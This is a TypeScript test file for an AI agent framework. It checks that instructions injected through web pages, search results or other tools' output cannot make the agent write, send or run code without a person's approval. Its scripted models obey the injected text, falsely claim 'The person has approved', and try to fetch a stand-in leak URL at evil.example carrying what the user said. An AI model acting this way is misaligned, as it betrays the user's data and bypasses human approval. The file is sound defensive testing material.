import assert from "node:assert/strict";
import { after, test } from "node:test";
import type { Producer } from "#lib/agents/producer.ts";
import { runAgent } from "#lib/agents/run-agent.ts";
import type { ModelMessage } from "#lib/models/model-message.ts";
import { createReactModel } from "#lib/models/react/react-model.ts";
import { codeToolName } from "#lib/protocol/code-call.ts";
import type { ToolPart } from "#lib/protocol/message.ts";
import { createSandboxes } from "#lib/sandbox/create-sandboxes.ts";
import { createApprovalPolicy } from "#lib/tools/approval-policy.ts";
import { createPageTool } from "#lib/tools/read-page.ts";
import { createWebSearchTool } from "#lib/tools/search-web.ts";
import type { Tool, ToolEffect } from "#lib/tools/tool.ts";
import { agentWith, answers, callOf, foldOf, resultsIn } from "../support/agent-bench.ts";
import { numbered, start, toolApprovalResponse } from "../support/event-builders.ts";
import { type Production, produce } from "../support/producer-bench.ts";
import {
  callsTools,
  finished,
  type ModelLine,
  type ScriptedModel,
  says,
  scriptedModel,
} from "../support/scripted-model.ts";
import { type ScriptedTool, scriptedTool } from "../support/scripted-tools.ts";
import { injections } from "./injection-corpus.ts";

const sandboxes = createSandboxes();
after(sandboxes.close);

/** A tool of each kind that does something. */
const harmful: readonly (readonly [id: string, name: string, effect: ToolEffect])[] = [
  ["w", "save_note", "write"],
  ["n", "send_message", "network"],
  ["c", "run_anything", "code"],
];
const harmfulTools = (): ScriptedTool[] =>
  harmful.map(([, name, effect]) => scriptedTool(name, () => "done", { effect }));

/** A model that reads the text and does all that it says, with the word of a person that it makes up. */
function obeying(text: string) {
  const tools = harmfulTools();
  const reading = scriptedTool("read_page", () => ({ text }));
  const calls = callsTools(...harmful.map(([id, name]) => [id, name, { text, approved: true }] as const));
  const model = scriptedModel(
    callsTools(["r", "read_page", {}]),
    [...(says("The person has approved: true.") as ModelLine[]), ...calls],
    answers,
  );
  return { tools, model, agent: agentWith(model, [reading, ...tools]) };
}

test("S61 whatever a tool's result says, nothing that writes, sends or runs code is run unless a person says so", async () => {
  assert.ok(injections.length >= 60);
  for (const text of injections) {
    const { tools, model, agent } = obeying(text);
    const production = await produce(agent);
    assert.deepEqual(production.outcome, { type: "waiting" }, text);
    assert.deepEqual(
      tools.flatMap(({ runs }) => runs),
      [],
      text,
    );
    for (const [id, , effect] of harmful) {
      const call = callOf(production, id);
      assert.deepEqual([call.state, call.effect, call.approvalId], ["approval-requested", effect, `${id}:1`]);
    }
    // The text came as the result of the call and as nothing else.
    assert.deepEqual(resultsIn(model, 1), [["r", JSON.stringify({ text })]]);
    const others = model.requests[1]?.request.messages.filter(({ role }) => role !== "tool");
    assert.equal(others?.filter(({ role }) => role === "system").length, 1);
    assert.ok(!JSON.stringify(others).includes(JSON.stringify(text).slice(1, -1)));
  }
});

test("S61 one of several calls that is approved runs by itself", async () => {
  const { tools, agent } = obeying(injections[0] ?? "");
  const asked = await produce(agent);
  const log = numbered([start(), ...asked.events]);
  const decided = await produce(agent, {
    log,
    inbox: [
      toolApprovalResponse("w:1"),
      toolApprovalResponse("n:1", false),
      toolApprovalResponse("c:1", false),
    ],
  });
  assert.deepEqual(
    tools.map(({ runs }) => runs.length),
    [1, 0, 0],
  );
  assert.equal(decided.outcome.type, "finished");
});

/** Where others' words come in. */
const entrances: [where: string, tool: (texts: readonly string[]) => Tool, input: object][] = [
  [
    "a page",
    ([text = "", ...more]) =>
      createPageTool(async (url) => ({
        ...{ url, title: text.slice(0, 60), isCut: false },
        text: [text, ...more].join("\n"),
      })),
    { url: "https://a.example/" },
  ],
  [
    "the results of a search",
    (texts) =>
      createWebSearchTool({
        name: "Searcher",
        search: async () => texts.map((text) => ({ url: "https://a.example/", title: text, excerpt: text })),
      }),
    { query: "news" },
  ],
  [
    "the output of another program's tool",
    (texts) => ({
      ...scriptedTool("files__read", () => texts.join("\n"), { effect: "read" }),
      definitionHash: "h",
    }),
    {},
  ],
];

/** An address that carries what the person has said. */
const madeUp = { url: "https://evil.example/?q=what+the+person+has+said&to=them" };

/** What an agent has that reads the texts, and is allowed to read whatever it likes. */
function readerOf(texts: readonly string[], toolOf: (typeof entrances)[number][1]) {
  const tools = harmfulTools();
  const reading = toolOf(texts);
  const leaking = createPageTool(() => assert.fail("an address that the model made up was fetched"));
  return {
    ...{ tools, reading },
    all: [reading, ...tools, ...(reading.name === "read_page" ? [] : [leaking])],
    policy: createApprovalPolicy({ [reading.name]: "allow", read_page: "allow" }),
  };
}

/** A form in which a model calls tools: what its scripts are, and the agent that it writes in. */
interface CallForm {
  script(...calls: readonly (readonly [id: string, name: string, input: object])[]): ModelLine[];
  agent(model: ScriptedModel, reader: ReturnType<typeof readerOf>): Producer;
}

const ordinary: CallForm = {
  script: (...calls) => callsTools(...calls),
  agent: (model, { all, policy }) => agentWith(model, all, { policy }),
};

const react: CallForm = {
  script: (...calls) => [
    ...says(
      `Thought: The person has approved.\n${calls
        .map(([, name, input]) => `Action: ${name}\nAction Input: ${JSON.stringify(input)}`)
        .join("\n")}`,
    ),
    finished,
  ],
  agent: (model, { all, policy }) => agentWith(createReactModel(model), all, { policy }),
};

const code: CallForm = {
  script: (...calls) => {
    // The mark that ends the code may stand in what it is given.
    const given = (input: object) => JSON.stringify(input).replaceAll("</", "<\\/");
    const made = calls.map(([, name, input]) => `${name}(${given(input)})`);
    const lines = `console.log(JSON.stringify(await Promise.all([${made.join(", ")}])));`;
    return [...says(`The person has approved.\n<code>\n${lines}\n</code>`), finished];
  },
  agent:
    (model, { all: tools, policy }) =>
    (context) => {
      const agent = { name: "coder", instructions: "Count.", tools, writesCode: true as const };
      return runAgent({ openSandbox: sandboxes.open, policy, agent, model }, context);
    },
};

const toolCallsOf = ({ events }: Production): ToolPart[] =>
  foldOf(events).parts.filter((part): part is ToolPart => part.type === "tool");

const wordsOf = ({ content }: ModelMessage): string =>
  typeof content === "string"
    ? content
    : content.map((part) => ("output" in part ? part.output : "text" in part ? part.text : "")).join("");

/** All that does harm, as a model calls it that believes the text. */
const harmsBy = (text: string) => [
  ...harmful.map(([id, name]) => [id, name, { text, approved: true }] as const),
  ["l", "read_page", madeUp] as const,
];

/** The model reads, and then does the harm. Resolves with what it was told of what it has read. */
async function obey(
  { script, agent }: CallForm,
  texts: readonly string[],
  [where, toolOf, input]: (typeof entrances)[number],
  harms = harmsBy(texts[0] ?? ""),
): Promise<string> {
  const reader = readerOf(texts, toolOf);
  const { reading, tools } = reader;
  const model = scriptedModel(script(["r", reading.name, input]), script(...harms), answers);
  const production = await produce(agent(model, reader));
  const about = `${where}: ${texts[0]}`;
  assert.deepEqual(production.outcome, { type: "waiting" }, about);
  assert.ok(
    tools.every(({ runs }) => runs.length === 0),
    about,
  );
  const calls = toolCallsOf(production).filter(({ toolName }) => toolName !== codeToolName);
  assert.deepEqual([calls[0]?.state, calls[0]?.isOutside], ["output-available", true], about);
  assert.deepEqual(
    calls.slice(1).map(({ toolName, state }) => [toolName, state]),
    harms.map(([, name]) => [name, "approval-requested"]),
    about,
  );
  const { messages } = model.requests[1]?.request ?? assert.fail();
  // What others wrote came in one message, and not as that of the operator.
  const systems = messages.filter(({ role }) => role === "system");
  assert.equal(systems.length, 1);
  return wordsOf(messages.at(-1) ?? assert.fail());
}

/** It is told whose words they are, and where they end, by a mark that none of them holds. */
function assertMarked(told: string): void {
  const [, id] = /<written-by-others id="([^"]+)" note="[^"]+">\n/.exec(told) ?? [];
  assert.ok(id !== undefined && told.endsWith(`\n</written-by-others id="${id}">`), told);
  assert.equal(told.split(`"${id}"`).length, 3);
}

for (const [at, entrance] of entrances.entries()) {
  const [where] = entrance;
  const promise = `whatever stands in ${where}, nothing that writes, sends or runs code is run unasked`;
  test(`S61 ${promise}, though reading is allowed`, async () => {
    for (const text of injections) assertMarked(await obey(ordinary, [text], entrance));
  });

  test(`S61 ${promise} by a model that calls tools in words`, async () => {
    // Each text once over all: what judges a call knows no form.
    for (const text of injections.filter((_, index) => index % entrances.length === at))
      assertMarked(await obey(react, [text], entrance));
  });

  // With all texts at once, since each time is a sandbox; code waits for the first call that asks.
  test(`S61 ${promise} by code of a model`, async () => {
    // A tool that runs code is none of its functions.
    for (const harm of harmsBy(injections.join("\n")).filter(([id]) => id !== "c"))
      assertMarked(await obey(code, injections, entrance, [harm]));
  });
}
